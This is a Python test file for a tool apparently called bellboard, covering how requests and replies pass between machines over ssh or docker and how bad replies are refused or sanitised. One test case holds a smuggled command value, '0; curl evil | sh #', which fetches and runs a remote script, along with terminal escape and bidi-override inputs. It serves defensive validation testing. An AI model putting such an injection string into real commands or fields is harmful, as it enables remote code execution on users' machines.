"""Asking another machine: what is passed on, and what is reported if nobody does."""

from __future__ import annotations

import asyncio
import errno
import json
import os
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from bellboard.core.session import Session
from bellboard.hosting import other_machine
from bellboard.hosting.other_machine import OtherMachines
from bellboard.storage.machines import Mailbox
from bellboard.system.failures import Declined
from rig.home import Home
from rig.host.desk import errands
from rig.host.keeper import LinkKeeper, Reply
from rig.machines.ssh import set_followed
from rig.waiting import eventually

SESSION = Session("dev/claude/s1", turn="blocked", machine="dev", row={"session_id": "s1"})
REQUEST = {
    "id": "r",
    "session_id": "s1",
    "agent": "claude",
    "kind": "permission",
    "digest": "0123456789abcdef",
    "choices": [{"id": "allow", "words": "Yes"}],
    "ways": [{"name": "go", "words": "there"}],
    "way": "go",
    "takes": "one line",
}
LOOK = "it does not say what followed; look there"


@pytest.fixture
def keeper(home: Home) -> Iterator[LinkKeeper]:
    made = LinkKeeper(home)
    yield made
    made.close()


def does(home: Home, what: str, **given: Any) -> Reply:
    given = {"session_id": SESSION.session_id, **given}
    return asyncio.run(errands(home, SESSION).do(what, given))


def marks(home: Home, **evidence: Any) -> None:
    asyncio.run(OtherMachines(home.bellboard).mark(SESSION, {"t": 1.0, **evidence}))


def test_a_request_is_asked_under_its_name_there_and_has_its_name_here(
    home: Home, keeper: LinkKeeper
) -> None:
    keeper.replies["request"] = {"ok": True, "request": REQUEST}
    keeper.replies["stop"] = {"ok": False, "why": "process 7 has already ended"}
    reply = json.loads(json.dumps(does(home, "request", id="r")))
    here = {"session_id": "dev/claude/s1", "keys": {"yes": "allow"}}
    assert reply == {"ok": True, "request": {**REQUEST, **here}}
    assert keeper.asked == [{"do": "request", "session_id": "s1", "id": "r"}]
    assert does(home, "stop", pid=7) == {"ok": False, "why": "process 7 has already ended"}


@pytest.mark.parametrize(
    ("what", "reply", "understood"),
    [
        ("answer", {}, {"way": "", "outcome": "nothing", "text": LOOK}),
        ("answer", {"outcome": "taken", "text": 5}, None),
        ("answer", {"outcome": {}, "text": "x"}, None),
        ("stop", {}, {"text": LOOK}),
        ("stop", {"text": ["x"]}, None),
        ("request", {}, None),
        ("request", {"request": "all of it"}, None),
        ("request", {"request": {**REQUEST, "choices": [5]}}, None),
        ("request", {"request": {**REQUEST, "digest": None}}, None),
        ("request", {"request": {**REQUEST, "digest": "0; curl evil | sh #"}}, None),
        ("request", {"request": {**REQUEST, "choices": [{"id": "a; b", "words": "Yes"}]}}, None),
        ("request", {"request": {**REQUEST, "choices": [{"id": "a", "words": "Y\nb"}]}}, None),
        ("request", {"request": {**REQUEST, "takes": "a\nb"}}, None),
        ("preview", {}, None),
        ("preview", {"rows": [["x"]]}, None),
        ("preview", {"rows": ["a\nb", "x" * 5000] * 200}, {"rows": ["a b", "x" * 1000] * 100}),
        ("preview", {"rows": ["\x1b[31mred\u202e"]}, {"rows": ["red "]}),
    ],
)
def test_a_reply_of_another_version_is_understood_or_refused(
    home: Home, keeper: LinkKeeper, what: str, reply: Reply, understood: Reply | None
) -> None:
    """Fields that are missing, of another type, too large or unknown here reach nobody."""
    keeper.replies[what] = {"ok": True, "unknown": 1, **reply}
    refused = {"ok": False, "why": "dev sent a reply that cannot be read; update bellboard there"}
    reply = json.loads(json.dumps(does(home, what)))
    assert reply == (refused if understood is None else {"ok": True, **understood})


def test_a_request_needs_no_watch(
    home: Home, keeper: LinkKeeper, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without a free watch, the reply is looked for."""

    def none_left(*_: object) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(other_machine, "arm", none_left)
    keeper.replies["stop"] = {"ok": True, "text": "done"}
    assert does(home, "stop", pid=7) == {"ok": True, "text": "done"}


def test_a_jump_without_a_terminal_here_is_a_command_that_opens_one(
    home: Home, keeper: LinkKeeper
) -> None:
    """The command asks ssh for a terminal, or leaves the tmux around a container."""
    keeper.replies["goto"] = {"ok": True, "client": ""}
    assert "dev is no longer followed here" in does(home, "goto")["why"]
    set_followed(home.bellboard, {"dev": ["ssh", "dev"]})
    command = does(home, "goto")["command"]
    assert (command[:2], command[-2]) == (["ssh", "-t"], "dev")
    assert "bellboard goto s1 --attach" in command[-1]
    set_followed(home.bellboard, {"dev": ["docker", "exec", "-i", "box"]})
    command = does(home, "goto", attach=True)["command"]
    box = ["docker", "exec", "-t", "-i", "box", "sh", "-c"]
    assert command[:-1] == [*other_machine.APART, *box]
    assert [ask["do"] for ask in keeper.asked] == ["goto"] * 2


def test_a_snooze_ends_by_the_clock_of_its_machine(home: Home, keeper: LinkKeeper) -> None:
    keeper.replies["clock"] = {"ok": True, "now": time.time() + 3600}
    until = time.time() + 900
    marks(home, snooze={"session_id": SESSION.session_id, "until": until})
    assert keeper.asked[1]["do"] == "snooze"
    assert abs(keeper.asked[1]["until"] - until - 3600) < 60
    marks(home, snooze={"session_id": SESSION.session_id, "until": 0.0})
    marks(home, goto={"session_id": SESSION.session_id})
    assert [ask["do"] for ask in keeper.asked[2:]] == ["snooze", "acknowledge"]
    with pytest.raises(Declined, match="done on dev itself"):
        marks(home, set={"session_id": SESSION.session_id, "status": "idle"})


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda keeper: keeper.close(), "no background process follows dev: start Neovim"),
        (lambda keeper: keeper.replies.update(label={"ok": False, "why": "no"}), "no"),
        (lambda keeper: keeper.replies.update(label={}), "gave no reason"),
    ],
    ids=["nobody", "refused", "odd"],
)
def test_a_request_that_is_not_carried_out_is_reported(
    home: Home,
    keeper: LinkKeeper,
    monkeypatch: pytest.MonkeyPatch,
    change: Callable[[LinkKeeper], None],
    why: str,
) -> None:
    """The request is withdrawn, so it is not done later."""
    monkeypatch.setattr(other_machine, "TAKEN", 0.05)
    monkeypatch.setattr(other_machine, "PATIENCE", 30.0)
    change(keeper)
    (home.bellboard / "links/dev/lock").write_text("")
    with pytest.raises(Declined, match=why):
        marks(home, label={"session_id": SESSION.session_id, "label": "HEAVY"})
    eventually(lambda: not [*(home.bellboard / "links/dev/ask").iterdir()])


@pytest.mark.parametrize(
    ("what", "why"), [("answer", "; check whether it was done"), ("request", "")]
)
def test_what_was_passed_on_may_have_been_done(
    home: Home, keeper: LinkKeeper, monkeypatch: pytest.MonkeyPatch, what: str, why: str
) -> None:
    """The machine is slow to reply: an answer may have counted."""
    monkeypatch.setattr(other_machine, "PATIENCE", 1.0)
    monkeypatch.setattr(Mailbox, "reply", lambda *_: None)
    assert does(home, what) == {"ok": False, "why": f"dev has not replied for 1 s{why}"}
